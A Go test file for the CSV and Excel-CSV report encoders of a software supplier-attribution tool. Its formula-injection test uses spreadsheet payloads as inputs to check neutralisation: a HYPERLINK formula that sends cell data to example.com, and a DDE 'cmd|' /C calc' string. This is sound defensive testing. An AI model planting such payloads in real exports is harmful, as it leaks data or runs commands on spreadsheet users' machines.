package report_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/embargo-dev/embargo/inventory"
	"github.com/embargo-dev/embargo/report"
)

// readCSV parses CSV output into one map per row, keyed by column.
func readCSV(t *testing.T, out []byte) []map[string]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v", err)
	}
	if diff := cmp.Diff(report.CSVHeader, recs[0]); diff != "" {
		t.Fatalf("header (-want +got):\n%s", diff)
	}
	var rows []map[string]string
	for _, rec := range recs[1:] {
		m := map[string]string{}
		for i, c := range rec {
			if c != "" {
				m[report.CSVHeader[i]] = c
			}
		}
		rows = append(rows, m)
	}
	return rows
}

func TestCSVRows(t *testing.T) {
	r := fixedReport(t)
	rows := readCSV(t, encode(t, report.CSV{}, r))
	if len(rows) != len(r.Items)+len(r.Unknowns) {
		t.Fatalf("%d rows, want one per item (%d) and unknown (%d)", len(rows), len(r.Items), len(r.Unknowns))
	}
	byRef := map[string]map[string]string{}
	for _, row := range rows {
		byRef[row["ref"]] = row
	}
	kesl := r.Items[1]
	for _, tc := range []struct {
		ref  string
		want map[string]string
	}{
		{"/components/0", map[string]string{
			"status": "restricted", "item_id": kesl.ID, "name": "kesl", "version": "11.2.0.4528", "type": "package", "ecosystem": "deb",
			"source": fixture, "ref": "/components/0",
			"product_id": "kaspersky-endpoint-security-linux", "product": "Kaspersky Endpoint Security for Linux",
			"supplier_id": "kaspersky-ao", "supplier": "AO Kaspersky Lab", "supplier_country": "RU",
			"controlling_country": "RU", "control_chain": "kaspersky-ao", "confidence": "high", "score": "95",
			"evidence": "purl=pkg:deb/debian/kesl@11.2.0.4528?arch=amd64~deb_package:kesl",
			"tier":     "product", "decided_by": "deb_package:kesl", "local": "false",
			"basis": "the package name as installed; names are not reserved, so each is checked against the supplier's own repository or documentation",
		}},
		{"/components/2", map[string]string{
			"status": "not-attributed", "item_id": r.Items[4].ID, "name": "left-pad", "version": "1.3.0", "type": "library", "ecosystem": "npm",
			"source": fixture, "ref": "/components/2",
		}},
		{"/components/3", map[string]string{
			"status": "unknown", "source": fixture, "ref": "/components/3",
			"reason": "no name, package URL, CPE, supplier or location to attribute it by",
		}},
	} {
		if diff := cmp.Diff(tc.want, byRef[tc.ref]); diff != "" {
			t.Errorf("row %s (-want +got):\n%s", tc.ref, diff)
		}
	}
	agent := byRef["/components/1"]
	if agent["status"] != "restricted" || agent["supplier_id"] != "kaspersky-ao" || agent["product_id"] != "" {
		t.Errorf("the application published by «Лаборатория Касперского» should be attributed to kaspersky-ao without a product: %v", agent)
	}
}

// TestCSVFormulaInjection checks that cells a spreadsheet would evaluate
// are neutralised, whatever column they are in, and others are not.
func TestCSVFormulaInjection(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("https://example.com/?"&A1,"x")`, `'=HYPERLINK("https://example.com/?"&A1,"x")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"-1-1", "'-1-1"},
		{"-12", "-12"}, // a negative number is not a formula
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"cmd|' /C calc'!A0", "cmd|' /C calc'!A0"},
		{"a=b", "a=b"},
		{"plain", "plain"},
		{"Лаборатория", "Лаборатория"},
	} {
		t.Run(tc.in, func(t *testing.T) {
			it := &inventory.Item{ID: "I-1", Name: tc.in, Version: tc.in, Type: inventory.Application,
				Location: inventory.Location{Source: tc.in, Ref: tc.in, Host: tc.in}}
			r := &report.Report{
				Items:    []report.Entry{{Item: it}},
				Unknowns: []inventory.Unknown{{Location: inventory.Location{Source: tc.in}, Name: tc.in, Reason: tc.in}},
			}
			rows := readCSV(t, encode(t, report.CSV{}, r))
			want := []map[string]string{
				{"status": "not-attributed", "item_id": "I-1", "name": tc.want, "version": tc.want, "type": "application", "source": tc.want, "ref": tc.want, "host": tc.want},
				{"status": "unknown", "name": tc.want, "source": tc.want, "reason": tc.want},
			}
			if diff := cmp.Diff(want, rows); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

func TestCSVEmpty(t *testing.T) {
	rows := readCSV(t, encode(t, report.CSV{}, &report.Report{}))
	if len(rows) != 0 {
		t.Errorf("rows for an empty report: %v", rows)
	}
}

// TestCSVExcel: csv-excel is the csv report for Excel on Windows: the
// UTF-8 byte order mark, CRLF line ends, the same cells. Names in
// Cyrillic and Chinese stay UTF-8, and Go's encoding/csv reads the file
// back once the mark is taken off (as any reader of UTF-8 must).
func TestCSVExcel(t *testing.T) {
	e, err := report.Lookup("csv-excel")
	if err != nil {
		t.Fatal(err)
	}
	const cyrillic, chinese = "Лаборатория Касперского", "腾讯电脑管家"
	items := []report.Entry{
		{Item: &inventory.Item{ID: "I-1", Name: cyrillic, Version: "21.3", Type: inventory.Application, Location: inventory.Location{Source: "реестр.json"}}},
		{Item: &inventory.Item{ID: "I-2", Name: chinese, Version: "15.0", Type: inventory.Application, Location: inventory.Location{Source: "清单.json"}}},
		// A cell over two lines: its line end is CRLF too, and reads back.
		{Item: &inventory.Item{ID: "I-3", Name: "two\nlines", Type: inventory.Other, Location: inventory.Location{Source: "a.json"}}},
	}
	for name, r := range map[string]*report.Report{
		"names":    {Items: items},
		"fixture":  fixedReport(t),
		"findings": policyReport(t),
		"traffic":  trafficReport(t),
	} {
		t.Run(name, func(t *testing.T) {
			plain := encode(t, report.CSV{}, r)
			out := encode(t, e, r)
			body, ok := bytes.CutPrefix(out, []byte{0xEF, 0xBB, 0xBF})
			if !ok {
				t.Fatalf("no UTF-8 byte order mark: % x", out[:min(len(out), 8)])
			}
			if !bytes.HasSuffix(body, []byte("\r\n")) || bytes.Count(body, []byte("\n")) != bytes.Count(body, []byte("\r\n")) {
				t.Errorf("a line does not end with CRLF:\n%q", body)
			}
			if !bytes.Equal(bytes.ReplaceAll(body, []byte("\r\n"), []byte("\n")), plain) {
				t.Errorf("the cells differ from the csv report's")
			}
			got, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
			if err != nil {
				t.Fatalf("encoding/csv cannot read it back: %v", err)
			}
			want, err := csv.NewReader(bytes.NewReader(plain)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("read back (-csv +csv-excel):\n%s", diff)
			}
			if name == "names" {
				if !bytes.Contains(out, []byte(cyrillic)) || !bytes.Contains(out, []byte(chinese)) {
					t.Errorf("the names are not in UTF-8:\n%q", out)
				}
				if got[1][2] != cyrillic || got[2][2] != chinese || got[3][2] != "two\nlines" {
					t.Errorf("names read back: %q, %q, %q", got[1][2], got[2][2], got[3][2])
				}
			}
		})
	}
}
